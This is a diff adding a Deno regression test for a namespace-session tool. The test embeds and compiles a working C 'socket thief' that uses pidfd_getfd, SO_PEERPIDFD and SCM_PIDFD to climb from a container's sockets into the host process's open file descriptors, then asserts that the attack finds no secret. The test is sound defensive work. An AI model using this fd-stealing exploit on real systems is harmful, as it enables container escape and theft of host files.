@@ -3581,3 +3581,184 @@ Deno.test({
     }
   },
 });
+
+// ---- review 6: sessions — the child's birth window reaches no socket that leads to Deno
+
+/**
+ * In a pid namespace whose init holds CAP_SYS_PTRACE alone: for every new process (from
+ * ns_last_pid) it takes fds 3-63 with pidfd_getfd and, for each socket among them, asks it
+ * whom it leads to: the process that made it (SO_PEERPIDFD) and the sender of a message
+ * waiting on it (SO_PASSPIDFD, then a peek: SCM_PIDFD). With each such pidfd it takes that
+ * process's fds 0-255, looking for a file that starts with "SECRET", and follows the sockets
+ * among them the same way (two steps). SIGTERM ends it; it prints counts.
+ */
+const SOCKET_THIEF_C = String.raw`
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+#ifndef SO_PASSPIDFD
+#define SO_PASSPIDFD 76
+#endif
+#ifndef SO_PEERPIDFD
+#define SO_PEERPIDFD 77
+#endif
+#ifndef SCM_PIDFD
+#define SCM_PIDFD 0x04
+#endif
+static volatile sig_atomic_t stop;
+static void on_term(int s) { (void)s; stop = 1; }
+static long opened, sockets, pidfds, stolen, secrets;
+static void follow(int sock, int depth);
+/* Every fd of the process behind pidfd p: a secret file, or a socket to follow. */
+static void loot(int p, int depth) {
+  pidfds++;
+  for (int k = 0; k < 256; k++) {
+    int h = (int)syscall(SYS_pidfd_getfd, p, k, 0);
+    if (h < 0) continue;
+    stolen++;
+    char buf[8] = {0};
+    struct stat st;
+    if (pread(h, buf, 6, 0) == 6 && !memcmp(buf, "SECRET", 6)) secrets++;
+    else if (depth < 2 && fstat(h, &st) == 0 && S_ISSOCK(st.st_mode)) follow(h, depth + 1);
+    close(h);
+  }
+  close(p);
+}
+static void follow(int sock, int depth) {
+  sockets++;
+  int p = -1;
+  socklen_t l = sizeof p;
+  if (getsockopt(sock, SOL_SOCKET, SO_PEERPIDFD, &p, &l) == 0 && p >= 0) loot(p, depth);
+  int on = 1;
+  setsockopt(sock, SOL_SOCKET, SO_PASSPIDFD, &on, sizeof on);
+  char data[16], control[256];
+  struct iovec iov = {data, sizeof data};
+  struct msghdr m = {0};
+  m.msg_iov = &iov;
+  m.msg_iovlen = 1;
+  m.msg_control = control;
+  m.msg_controllen = sizeof control;
+  if (recvmsg(sock, &m, MSG_PEEK | MSG_DONTWAIT | MSG_CMSG_CLOEXEC) < 0) return;
+  for (struct cmsghdr *c = CMSG_FIRSTHDR(&m); c; c = CMSG_NXTHDR(&m, c)) {
+    if (c->cmsg_level != SOL_SOCKET) continue;
+    int *fds = (int *)CMSG_DATA(c);
+    int n = (int)((c->cmsg_len - CMSG_LEN(0)) / sizeof(int));
+    for (int i = 0; i < n; i++) {
+      if (c->cmsg_type == SCM_PIDFD) loot(fds[i], depth);
+      else close(fds[i]);
+    }
+  }
+}
+int main(void) {
+  struct sigaction sa = {0};
+  sa.sa_handler = on_term;
+  sigaction(SIGTERM, &sa, 0);
+  int lp = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
+  long last = -1;
+  printf("ready\n");
+  fflush(stdout);
+  while (!stop) {
+    char b[32];
+    ssize_t n = pread(lp, b, sizeof b - 1, 0);
+    long now = n > 0 ? (b[n] = 0, atol(b)) : last;
+    if (last < 0) last = now;
+    for (long pid = last + 1; pid <= now; pid++) {
+      int pfd = -1;
+      for (int i = 0; i < 200 && pfd < 0; i++) pfd = (int)syscall(SYS_pidfd_open, pid, 0);
+      if (pfd < 0) continue;
+      opened++;
+      for (int fd = 3; fd < 64; fd++) {
+        int g = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
+        if (g < 0) continue;
+        struct stat st;
+        if (fstat(g, &st) == 0 && S_ISSOCK(st.st_mode)) follow(g, 0);
+        close(g);
+      }
+      close(pfd);
+    }
+    last = now;
+    while (waitpid(-1, 0, WNOHANG) > 0) {}
+  }
+  printf("{\"opened\":%ld,\"sockets\":%ld,\"pidfds\":%ld,\"stolen\":%ld,\"secrets\":%ld}\n",
+         opened, sockets, pidfds, stolen, secrets);
+  fflush(stdout);
+  return 0;
+}
+`;
+
+Deno.test({
+  name: "review 6: a session's child hands the target no socket that leads to Deno's fds",
+  ignore: NEEDS_ROOT,
+  sanitizeResources: false,
+  async fn() {
+    // A child the session's helper forks is born in the target's pid namespace holding
+    // copies of the helper's fds, closed as its first step. The helper's socket was one Deno
+    // made and sent requests on: a task there with CAP_SYS_PTRACE (docker --cap-add
+    // SYS_PTRACE) took it with pidfd_getfd, got a pidfd of Deno from it (SO_PEERPIDFD; or
+    // SCM_PIDFD of a request) and with that any fd of Deno (pidfd_getfd checks no pid
+    // namespace): here a host file Deno holds open that it may not read — in ~1 of 6 runs.
+    const { openSession } = await import("../src/session.ts");
+    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sockthief-" });
+    try {
+      await Deno.writeTextFile(`${dir}/thief.c`, SOCKET_THIEF_C);
+      const cc = await new Deno.Command("gcc", {
+        args: ["-static", "-O2", "-o", `${dir}/thief`, `${dir}/thief.c`],
+        stderr: "piped",
+      }).output();
+      assert(cc.success, text(cc.stderr));
+      // Mode 0: root without CAP_DAC_OVERRIDE (the target's init) may not open it; we may.
+      await Deno.writeTextFile(`${dir}/secret`, "SECRET of the host\n", { mode: 0 });
+      await Deno.chmod(`${dir}/secret`, 0);
+      using secret = await Deno.open(`${dir}/secret`);
+      const target = new Deno.Command("unshare", {
+        args: ["-p", "--fork", "--mount-proc", "setpriv", "--bounding-set=-all,+sys_ptrace"]
+          .concat(["--inh-caps=-all", `${dir}/thief`]),
+        stdin: "null",
+        stdout: "piped",
+        stderr: "inherit",
+      }).spawn();
+      const reader = target.stdout.pipeThrough(new TextDecoderStream()).getReader();
+      let out = "";
+      while (!out.includes("ready\n")) {
+        const { value, done } = await reader.read();
+        if (done) throw new Error("the attacker did not start");
+        out += value;
+      }
+      const pid = Number(Deno.readTextFileSync(`/proc/${target.pid}/task/${target.pid}/children`));
+      const results: string[] = [];
+      try {
+        // As it would be against the session's programs: root, the target's capabilities.
+        await using session = await openSession(pid, { capabilities: "target" });
+        for (let i = 0; i < 100; i++) {
+          const r = await session.output("true").then((r) => String(r.code), String);
+          if (!results.includes(r)) results.push(r);
+        }
+      } finally {
+        Deno.kill(pid, "SIGTERM");
+      }
+      for (let r = await reader.read(); !r.done; r = await reader.read()) out += r.value;
+      await target.status;
+      const counts = JSON.parse(out.trim().split("\n").pop()!);
+      console.log(JSON.stringify(counts));
+      assertEquals(
+        counts.secrets,
+        0,
+        `the target read Deno's open file: ${JSON.stringify(counts)}`,
+      );
+      // The attack was live: it reached the children's sockets.
+      assert(counts.sockets > 0, JSON.stringify(counts));
+      assertEquals(results, ["0"]);
+      assert(secret.statSync().isFile);
+    } finally {
+      await Deno.remove(dir, { recursive: true });
+    }
+  },
+});
